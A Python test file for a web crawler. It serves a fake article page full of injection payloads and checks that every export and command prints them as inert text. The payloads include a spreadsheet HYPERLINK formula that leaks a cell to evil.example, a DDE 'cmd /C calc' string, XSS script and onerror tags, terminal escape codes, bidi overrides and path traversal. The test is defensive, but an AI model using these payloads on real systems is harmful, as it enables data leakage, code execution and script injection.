"""A page whose texts are attacks: they come out of every command and every export as mere text."""

import csv
import io
import json
import os
import re
import subprocess
import sys

from markdown_it import MarkdownIt

from tests.faults import wire
from tests.faults.process import ROOT, Process, crawl

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Harbour")'
STEERS = "\x1b]0;owned\x07\x9b31m"
TURNS = "\u202eecruos\u2066"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
PATHS = "../../../../escaped"
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def entities(text):
    return "".join(f"&#{ord(each)};" for each in text)


def attack(server, connection, body):
    """The page of a story, whose words are all meant for somebody else than its reader."""
    paragraphs = "".join(
        f"<p>{each} and the ships wait in the harbour for the wind, as they did before.</p>"
        for each in (
            f"The mate said {entities(MARKUP)}",
            f"The pilot wrote {entities(STEERS)} on the wall",
            f"{entities(TURNS)} was read by the crew",
            "It holds &#xD800; and &#0; and &#xFFFF; and &#x2028; too",
            f"]]&gt; {entities(PATHS)}",
        )
    )
    page = (
        f"<html><head><title>{entities(FORMULA)}</title>"
        '<script type="application/ld+json">{"@type": "NewsArticle", "headline": NaN,'
        f' "author": {{"@type": "Person", "name": "@SUM(1+1)*cmd|\' /C calc\'!A0"}},'
        f' "articleSection": "{PATHS}"}}</script></head><body><main><article>'
        f"<h1>{entities(FORMULA)}</h1><p class='byline'>By +1 Ada{entities(STEERS)} Merrin</p>"
        f"<time datetime='2018-07-20T09:00:00+03:00'>20 July 2018</time>"
        f"<div class='entry-content'>{paragraphs}</div></article></main></body></html>"
    ).encode()
    connection.sendall(wire.head(f"Content-Length: {len(page)}") + page)


def run(folder, *arguments):
    """Run a command that must go well."""
    with Process(folder, *arguments) as process:
        assert process.wait() == 0, process.err
        assert not CONTROL.search(process.err)


def printed(folder, *arguments):
    """Return what a command prints."""
    command = [sys.executable, "-m", "crawler", *arguments]
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(command, cwd=folder, env=environment, capture_output=True, check=True)
    return done.stdout.decode()


def files(folder):
    return {str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()}


def texts(value):
    """Yield all texts in a record."""
    if isinstance(value, dict | list):
        for each in value.values() if isinstance(value, dict) else value:
            yield from texts(each)
    elif isinstance(value, str):
        yield value


def is_run(cell):
    """Tell whether a spreadsheet would take a cell for more than a text or a number."""
    return cell[:1] in {"=", "+", "-", "@", "\t", "\r"} and not cell.lstrip("+-").isdecimal()


def test_texts_that_are_attacks_come_out_of_everything_as_text(tmp_path):
    folder = tmp_path / "within"
    folder.mkdir()
    with wire.serve(days=1, per_day=1) as server:
        [story] = server.site.stories
        server.faults[server.site.path(story)] = [attack]
        with crawl(folder, server) as process:
            assert process.wait() == 0, process.err
            assert not CONTROL.search(process.err)
    for name in ("a.jsonl", "a.csv"):
        run(folder, "export", "-o", name)
    run(folder, "export", "--shape", "markdown", "-o", "articles/")

    [line] = (folder / "a.jsonl").read_text(encoding="utf-8").splitlines()
    record = json.loads(line)
    assert record["headline"] == FORMULA
    assert record["article_section"] == [PATHS]
    assert MARKUP in record["article_body"]
    assert not any(CONTROL.search(each) for each in texts(record))

    [row] = csv.DictReader(io.StringIO((folder / "a.csv").read_text(encoding="utf-8")))
    assert row["headline"] == "'" + FORMULA
    assert not any(is_run(cell) for cell in row.values())

    [document] = (folder / "articles").rglob("*.md")
    text = document.read_text(encoding="utf-8")
    assert not CONTROL.search(text)
    shown = MarkdownIt().render(text.rpartition("---\n")[2])
    assert "alert(1)" in shown
    assert not re.search("<script|<img", shown)

    assert not CONTROL.search(printed(folder, "explain", record["url"]))
    assert not CONTROL.search(printed(folder, "show", record["site"]))
    assert all(name.startswith("within/") for name in files(tmp_path))
